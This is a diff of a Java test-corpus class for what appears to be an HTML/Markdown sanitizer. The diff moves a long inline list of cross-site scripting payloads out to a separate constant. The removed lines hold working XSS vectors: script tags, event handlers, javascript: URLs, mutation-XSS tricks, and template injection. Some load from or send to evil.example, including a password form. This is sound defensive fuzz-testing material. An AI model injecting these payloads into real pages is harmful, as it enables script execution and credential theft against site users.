@@ -73,77 +73,6 @@ final class Corpus {
       "mailto:a@b.example?bcc=everybody@c.example",
       "tel:+100000000");
 
-  private static final List<String> HTML = List.of(
-      "<script>alert(1)</script>",
-      "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-      "<script\n>alert(1)</script\n>",
-      "<<script>alert(1)//<</script>",
-      "<img src=x onerror=alert(1)>",
-      "<img src=x onerror=alert(1)//",
-      "<img/src=x/onerror=alert(1)>",
-      "<svg onload=alert(1)>",
-      "<svg><script>alert(1)</script></svg>",
-      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-      "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
-      "<svg><style><img src=x onerror=alert(1)></style></svg>",
-      "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src onerror=alert(1)>\">",
-      "<math href=javascript:alert(1)>x</math>",
-      "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
-      "<style>*{background:url(//evil.example)}</style>",
-      "<style><style /><img src=x onerror=alert(1)>",
-      "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
-      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-      "<p style=position:fixed;inset:0>x</p>",
-      "<p class=overlay id=top title=x data-x=y>x</p>",
-      "<a href=javascript:alert(1)>x</a>",
-      "<a href=https://example.org target=_blank ping=//evil.example style=x onclick=alert(1)>x</a>",
-      "<iframe src=javascript:alert(1)></iframe>",
-      "<iframe srcdoc=\"<script>alert(1)</script>\">",
-      "<object data=javascript:alert(1)>",
-      "<embed src=//evil.example/x.swf>",
-      "<base href=//evil.example/>",
-      "<meta http-equiv=refresh content=0;url=//evil.example>",
-      "<link rel=stylesheet href=//evil.example/x.css>",
-      "<link rel=prefetch href=//evil.example/>",
-      "<form action=//evil.example><input name=password><button>x</button></form>",
-      "<isindex action=javascript:alert(1) type=submit>",
-      "<details open ontoggle=alert(1)>x</details>",
-      "<video><source onerror=alert(1)></video>",
-      "<audio src onerror=alert(1)>",
-      "<marquee onstart=alert(1)>x</marquee>",
-      "<body onload=alert(1)>",
-      "<select><li><img src=x onerror=alert(1)></select>",
-      "<template><script>alert(1)</script></template>",
-      "<textarea><img src=x onerror=alert(1)></textarea>",
-      "<title><img src=x onerror=alert(1)></title>",
-      "<xmp><img src=x onerror=alert(1)></xmp>",
-      "<plaintext><img src=x onerror=alert(1)>",
-      "<table><tr><td background=javascript:alert(1)>x</table>",
-      "<!--><script>alert(1)</script>-->",
-      "<!--[if IE]><script>alert(1)</script><![endif]-->",
-      "<![CDATA[<script>alert(1)</script>]]>",
-      "<?xml version=\"1.0\"?><script>alert(1)</script>",
-      "<x onclick=alert(1) tabindex=1>x</x>",
-      "</p></div></article><script>alert(1)</script>",
-      "&lt;script&gt;alert(1)&lt;/script&gt;",
-      "&#60;script&#62;alert(1)&#60;/script&#62;",
-      "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
-      "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
-      "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
-      "<scr\u200Bipt>alert(1)</script>",
-      "`<script>alert(1)</script>`",
-      "```html\"onload=alert(1)\n<script>alert(1)</script>\n```",
-      "    <script>alert(1)</script>",
-      "**<img src=x onerror=alert(1)>**",
-      "[<img src=x onerror=alert(1)>](https://example.org)",
-      "[x](https://example.org \"\\\"onmouseover=alert(1)\")",
-      "[![x](https://example.org/a.png)](https://example.org)",
-      "![![x](https://example.org/a.png)](https://example.org/b.png)",
-      "![*x* \n `y`](https://example.org/track.gif?id=1)",
-      "| a | b |\n|---|---|\n| <script>alert(1)</script> | b |",
-      "# <script>alert(1)</script>",
-      "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>");
-
   private static final List<String> CLOBBERING = Stream.of(
           "children", "attributes", "body", "cookie", "getElementById", "innerHTML", "nodeName")
       .flatMap(name -> Stream.of(
@@ -237,7 +166,7 @@ final class Corpus {
   private Corpus() {}
 
   static List<String> all() {
-    return Stream.of(links(), HTML, CLOBBERING, UNICODE, pathological(), mixed())
+    return Stream.of(links(), HostileHtml.ALL, CLOBBERING, UNICODE, pathological(), mixed())
         .flatMap(List::stream)
         .toList();
   }
@@ -272,7 +201,7 @@ final class Corpus {
   static List<String> mixed() {
     var random = new Random(20_261_124);
     var pieces = new ArrayList<>(REPEATED);
-    pieces.addAll(HTML);
+    pieces.addAll(HostileHtml.ALL);
     pieces.addAll(UNICODE);
     pieces.addAll(List.of("a", "\n\n", "\n    ", "word ", "](https://example.org)", "\n> "));
     return IntStream.range(0, 500)
